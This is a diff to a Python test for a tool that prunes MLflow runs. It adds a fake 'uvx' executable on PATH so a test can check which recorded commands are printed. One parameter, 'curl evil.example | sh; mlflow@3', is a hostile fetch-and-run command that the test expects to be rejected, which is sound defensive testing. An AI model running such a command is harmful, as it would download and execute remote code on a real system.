@@ -193,8 +193,12 @@ def test_dry_run_removes_nothing_even_with_yes(prune, record_old_run, words):
     ("program", "is_said"), [("uvx mlflow@3.15.0", True), ("curl evil.example | sh; mlflow@3", False)]
 )
 def test_lines_that_remove_a_run_from_mlflow_are_printed_if_its_command_is_known(
-    prune, record_old_run, scripted, tmp_path, program, is_said
+    prune, record_old_run, scripted, tmp_path, program, is_said, monkeypatch
 ):
+    (tmp_path / "bin").mkdir()
+    (tmp_path / "bin/uvx").write_text("#!/bin/sh\n")
+    (tmp_path / "bin/uvx").chmod(0o755)
+    monkeypatch.setenv("PATH", f"{tmp_path / 'bin'}:{os.environ['PATH']}")
     uri, run_id = f"sqlite:///{tmp_path / 'tracked' / 'mlflow.db'}", "0123456789abcdef" * 2
     artifacts = tmp_path / "tracked" / "artifacts" / "pick" / run_id
     artifacts.mkdir(parents=True)
